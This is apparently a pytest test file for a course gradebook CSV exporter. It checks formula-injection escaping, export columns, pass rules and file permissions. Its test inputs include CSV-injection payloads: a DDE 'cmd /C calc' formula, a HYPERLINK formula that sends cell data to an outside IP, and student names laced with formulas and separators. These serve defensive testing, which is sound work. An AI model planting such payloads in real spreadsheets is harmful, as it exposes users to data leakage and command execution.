"""Tables hold what the gradebook and the journals hold, and no cell of them is ever a formula."""

from __future__ import annotations

import csv
import json
import os
import re
from datetime import datetime
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbgrader.apps import ExportApp
from nbgrader.plugins import CsvExportPlugin

from himaya.errors import CourseError
from himaya_autograde.course import CourseDirectory
from himaya_autograde.responses import COLUMNS, response_rows
from himaya_autograde.table import safe, write_table
from tests.courses import one_module_course
from tests.engine import examples
from tests.shipped import a_module

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from nbgrader.api import Gradebook

MODULE = a_module("core-protection")
_STARTERS = tuple("=+-@\t\r＝＋－＠")


# --- no formula -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "＝1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://203.0.113.1/?"&A1)',
    ],
)
def test_formula_text_gets_an_apostrophe(text: str) -> None:
    cell = str(safe(text))
    assert cell[0] == "'"
    assert cell.replace("'", "") == text.replace("'", ""), "and nothing else of it changes"


@pytest.mark.parametrize("value", [-3.5, 0, 12, None, "-3.5", "+964", "-0,25", "Noor", "نور", "a-b", "Jian = Sabah"])
def test_numbers_and_ordinary_words_stay_as_they_are(value: object) -> None:
    assert safe(value) == value


_WORDS = st.text("=+-@\t\r\n;,|\"' ＝a1", max_size=12).filter(lambda text: not re.fullmatch(r"[+-]?1+([.,]1+)?", text))


@given(st.lists(_WORDS, min_size=1, max_size=4))
@settings(max_examples=150, deadline=None)
def test_no_separator_lets_a_formula_through(tmp_path_factory: pytest.TempPathFactory, cells: list[str]) -> None:
    path = write_table(tmp_path_factory.getbasetemp() / "hostile.csv", ["name"], [cells])
    for separator in ",;\t|":
        with path.open(encoding="utf-8-sig", newline="") as file:
            read = [cell for row in csv.reader(file, delimiter=separator) for cell in row]
        assert not [cell for cell in read if cell.lstrip(" ").startswith(_STARTERS)]


# --- the gradebook's tables ---------------------------------------------------------------------------------------


def _activities() -> dict[str, Any]:
    made = [examples.scenario("practice"), examples.choice(), examples.order(), examples.number(), examples.text()]
    made[1]["safety_critical"] = True
    made[4]["points"] = 4
    return {activity["id"]: activity for activity in made}


def _event(activity: str, kind: str, **fields: Any) -> dict[str, Any]:
    return {"id": os.urandom(6).hex(), "activity": activity, "type": kind, **fields}


JOURNAL = [
    _event("the-scenario", "begin", content="0123456789abcdef"),
    _event("the-scenario", "choose", turn=0, at="hello", choice="blunt", time="2026-01-11T08:00:00.000Z"),
    _event("the-scenario", "choose", turn=1, at="hello", choice="gentle"),  # does not fit: the story is elsewhere
    _event("the-scenario", "continue", turn=1),
    _event("the-scenario", "choose", turn=2, at="goodbye", choice="thanks", time="=1+1"),
    _event("the-scenario", "continue", turn=3),
    _event("the-scenario", "restart", turn=4),
    _event("the-scenario", "choose", turn=5, at="hello", choice="wait"),
    _event("the-choice", "begin", content="=HYPERLINK(1)"),
    _event("the-choice", "answer", turn=0, value=["a"]),
    _event("the-choice", "answer", turn=1, value=["b"]),
    _event("the-order", "answer", turn=0, value=list("bacdef")),
    _event("the-number", "answer", turn=0, value="=12.5"),
    _event("the-text", "answer", turn=0, value="=1+1 and what nobody else should read"),
    _event("elsewhere", "answer", turn=0, value="x"),
]


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> CourseDirectory:
    """A course with three trainees: one graded and partly marked, one late, one who handed nothing in."""
    path = one_module_course(tmp_path_factory.mktemp("export") / "core-protection")
    text = f"id: core-protection\ntitle: x\nsummary: x\nmodules: [{MODULE}]\npass_mark: 80\nlanguages: [en]\n"
    (path / "course.yaml").write_text(text, encoding="utf-8")
    (path / "keys").mkdir()
    (path / "keys" / f"{MODULE}.json").write_text(json.dumps({"activities": _activities()}), encoding="utf-8")
    for student in ("noor", "dilan"):
        folder = path / "autograded" / student / MODULE
        folder.mkdir(parents=True)
        lines = "".join(json.dumps(event) + "\n" for event in JOURNAL) if student == "noor" else "no journal\n"
        (folder / "responses.jsonl").write_text(lines, encoding="utf-8")
    directory = CourseDirectory(path)
    with directory.api.gradebook as gradebook:
        _fill(gradebook)
    return directory


def _fill(gradebook: Gradebook) -> None:
    gradebook.add_assignment(MODULE, duedate="2026-01-11 20:00:00")
    gradebook.add_notebook(MODULE, MODULE)
    for name in ("the-order", "the-scenario", "the-choice", "the-number"):
        gradebook.add_grade_cell(name, MODULE, MODULE, max_score=2, cell_type="code")
    gradebook.add_task_cell("the-text", MODULE, MODULE, max_score=4, cell_type="markdown")
    gradebook.add_student("noor", first_name="Noor", last_name="Sabah")
    gradebook.add_student("dilan", first_name="Dilan")
    gradebook.add_student("rojin")
    for student, time in (("noor", datetime(2026, 1, 11, 8)), ("dilan", datetime(2026, 1, 12, 8))):  # noqa: DTZ001 - as nbgrader keeps it
        gradebook.add_submission(MODULE, student, timestamp=time)
        notebook = gradebook.find_submission_notebook(MODULE, MODULE, student)
        notebook.late_submission_penalty = 0.5 if student == "dilan" else None
        for grade in notebook.grades:
            if grade.name != "the-text":
                grade.auto_score = {"the-order": 1.7333, "the-scenario": 2}.get(grade.name, 0)
                grade.needs_manual_grade = False
        if student == "noor":
            text = next(grade for grade in notebook.grades if grade.name == "the-text")
            text.manual_score, text.extra_credit, text.needs_manual_grade = 3, 0.5, False
    gradebook.db.commit()


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_items_table_has_trainee_rows_and_item_columns(course: CourseDirectory, tmp_path: Path) -> None:
    _, items, _ = course.export(tmp_path / "exports")
    rows = _read(items)
    names = ["the-choice", "the-order", "the-number", "the-text", "total"]  # no column of the scenario, for practice
    columns = [*(f"{MODULE}/{name}" for name in names), f"{MODULE}/percent", "percent", "passed", "not_yet", "draft"]
    assert list(rows[0]) == ["student_id", "last_name", "first_name", *columns]
    told = {row["student_id"]: [row[f"{MODULE}/{name}"] for name in names] for row in rows}
    assert told["noor"] == ["0.0", "1.7333", "0.0", "3.5", "7.2333"]
    assert told["dilan"] == ["0.0", "1.7333", "0.0", "", "3.2333"], "late, and the reflection waits"
    assert told["rojin"] == [""] * 5, "nothing handed in is not the same as nothing right"


@pytest.mark.parametrize(
    ("marks", "expected"),
    [
        ({}, ("85", "yes", "")),
        ({"the-choice": 0.0}, ("66", "no", f"{MODULE}/the-choice")),
        ({"the-text": None}, ("46", "no", f"{MODULE}/the-text")),
        ({"the-scenario": 0.0}, ("85", "yes", "")),
    ],
    ids=["enough and safe", "a safety-critical item missed", "a reflection not marked yet", "a scenario misplayed"],
)
def test_pass_needs_mark_and_safety_items(
    course: CourseDirectory, tmp_path: Path, marks: dict[str, float | None], expected: tuple[str, str, str]
) -> None:
    everything = {"the-scenario": 2.0, "the-choice": 2.0, "the-order": 2.0, "the-number": 1.0, "the-text": 4.0, **marks}
    with course.api.gradebook as gradebook:
        notebook = gradebook.find_submission_notebook(MODULE, MODULE, "dilan")
        before = {grade.name: grade.auto_score for grade in notebook.grades}
        for grade in notebook.grades:
            grade.auto_score = everything[grade.name]
            grade.needs_manual_grade = grade.auto_score is None
        gradebook.db.commit()
    _, items, _ = course.export(tmp_path / "exports")
    with course.api.gradebook as gradebook:
        for grade in gradebook.find_submission_notebook(MODULE, MODULE, "dilan").grades:
            grade.auto_score = before[grade.name]
            grade.needs_manual_grade = grade.auto_score is None
        gradebook.db.commit()
    row = next(row for row in _read(items) if row["student_id"] == "dilan")
    assert (row["percent"], row["passed"]) == expected[:2]
    assert expected[2] in row["not_yet"]


def _by_stock(course: CourseDirectory, target: Path) -> Path:
    with course.api.gradebook as gradebook:
        plugin = CsvExportPlugin()
        plugin.to = str(target)
        plugin.export(gradebook)
    return target


def _by_nbgraders_command(course: CourseDirectory, target: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(course.path)
    app = ExportApp()
    app.initialize(["--to", str(target)])
    app.start()
    return target


def test_grades_table_equals_stock_nbgrader(
    course: CourseDirectory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    stock = _by_stock(course, tmp_path / "stock.csv").read_text(encoding="utf-8")
    ours = _by_nbgraders_command(course, tmp_path / "ours.csv", monkeypatch).read_text(encoding="utf-8")
    assert stock.count("\n") == 4
    assert ours == stock
    grades, _, _ = course.export(tmp_path / "exports")
    assert grades.read_text(encoding="utf-8") == "\ufeff" + stock


@pytest.fixture
def hostile(course: CourseDirectory) -> Iterator[CourseDirectory]:
    """The same course while one trainee has a name that is a formula and holds separators."""
    with course.api.gradebook as gradebook:
        gradebook.update_or_create_student("rojin", last_name='=HYPERLINK("x"),Sabah', first_name="a;=1+1\n-2+3")
    yield course
    with course.api.gradebook as gradebook:
        gradebook.update_or_create_student("rojin", last_name=None, first_name=None)


def test_separators_in_a_name_stay_in_cell(
    hostile: CourseDirectory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    written = [*hostile.export(tmp_path / "exports")[:2], tmp_path / "ours.csv"]
    _by_nbgraders_command(hostile, written[2], monkeypatch)
    for path in written:
        row = next(row for row in _read(path) if row["student_id"] == "rojin")
        assert row["last_name"] == '\'=HYPERLINK("x"),Sabah'
        assert row["first_name"] == "a;'=1+1\n'-2+3"
        assert None not in row


# --- one row for each response --------------------------------------------------------------------------------------


def test_each_counted_response_is_a_row(course: CourseDirectory, tmp_path: Path) -> None:
    _, _, responses = course.export(tmp_path / "exports")
    rows = _read(responses)
    assert tuple(rows[0]) == COLUMNS
    assert {(row["trainee"], row["module"]) for row in rows} == {("noor", MODULE)}
    told = [
        tuple(row[name] for name in ("activity", "attempt", "event", "at", "choice", "quality", "score", "max"))
        for row in rows
    ]
    assert told == [
        # Of practice a table says only that it was done.
        ("the-scenario", "1", "choose", "", "", "", "", ""),
        ("the-scenario", "1", "choose", "", "", "", "", ""),
        ("the-scenario", "2", "choose", "", "", "", "", ""),
        ("the-choice", "1", "answer", "", "a", "wrong", "0", "1"),
        ("the-choice", "2", "answer", "", "b", "right", "1", "1"),
        ("the-order", "1", "answer", "", "b a c d e f", "partly", "13", "15"),
        ("the-number", "1", "answer", "", "'=12.5", "wrong", "0", "1"),
        ("the-text", "1", "answer", "", "", "", "", ""),
    ]


def test_invalid_times_and_content_are_left_out(course: CourseDirectory, tmp_path: Path) -> None:
    _, _, responses = course.export(tmp_path / "exports")
    rows = _read(responses)
    assert [row["time"] for row in rows][:2] == ["2026-01-11T08:00:00.000Z", ""]
    assert [row["content"] for row in rows][:4] == ["0123456789abcdef"] * 3 + [""]
    assert "nobody else should read" not in responses.read_text(encoding="utf-8"), "a reflection stays where it is"


@pytest.mark.parametrize("mode", ["practice", "graded"])
def test_practice_counts_checks_and_grading_answers(mode: str) -> None:
    item = examples.match(mode)
    right = [["r1", "a"], ["r2", "b"], ["r3", "c"]]
    events = [
        _event(item["id"], "answer", turn=0, value=[["r1", "d"], ["r2", "b"], ["r3", "c"]]),
        _event(item["id"], "check", turn=1),
        _event(item["id"], "retry", turn=2),
        _event(item["id"], "answer", turn=3, value=right),
        _event(item["id"], "check", turn=4),
    ]
    rows = [dict(zip(COLUMNS, row, strict=True)) for row in response_rows("noor", MODULE, {item["id"]: item}, events)]
    assert [(row["event"], row["attempt"], row["quality"]) for row in rows] == [
        ("check" if mode == "practice" else "answer", 1, "partly"),
        ("check" if mode == "practice" else "answer", 2, "right"),
    ]
    assert rows[1]["choice"] == "r1=a r2=b r3=c"
    assert rows[1]["mode"] == mode


def test_tables_say_what_nobody_has_signed(course: CourseDirectory, tmp_path: Path) -> None:
    _, items, responses = course.export(tmp_path / "signed")
    assert {row["draft"] for row in (*_read(items), *_read(responses))} == {""}
    keys = course.path / "keys" / f"{MODULE}.json"
    before = keys.read_text(encoding="utf-8")
    try:
        keys.write_text(json.dumps(json.loads(before) | {"module": {"draft": True, "draft_activities": ["the-order"]}}))
        _, items, responses = course.export(tmp_path / "in part")
        assert {row["draft"] for row in _read(items)} == {f"DRAFT: {MODULE}"}
        assert {row["activity"] for row in _read(responses) if row["draft"] == "DRAFT"} == {"the-order"}
        keys.write_text(json.dumps(json.loads(before) | {"module": {"draft": True}}))  # of an earlier release
        _, _, responses = course.export(tmp_path / "before")
        assert {row["draft"] for row in _read(responses)} == {"DRAFT"}
    finally:
        keys.write_text(before, encoding="utf-8")


def test_missing_keys_name_the_command_to_run(course: CourseDirectory, tmp_path: Path) -> None:
    (course.path / "keys").rename(course.path / "put-away")
    with pytest.raises(CourseError, match="Run: himaya build"):
        course.export(tmp_path)
    (course.path / "put-away").rename(course.path / "keys")


def test_table_takes_the_place_of_an_open_one_closed(tmp_path: Path) -> None:
    table = tmp_path / "grades.csv"
    table.write_text("old", encoding="utf-8")
    table.chmod(0o644)
    with table.open(encoding="utf-8") as reading:
        write_table(table, ["name"], [["noor"]])
        assert reading.read() == "old", "whoever reads the one before reads it whole"
    assert table.stat().st_mode & 0o777 == 0o600
    assert table.read_text(encoding="utf-8-sig") == "name\nnoor\n"
    assert list(tmp_path.iterdir()) == [table]
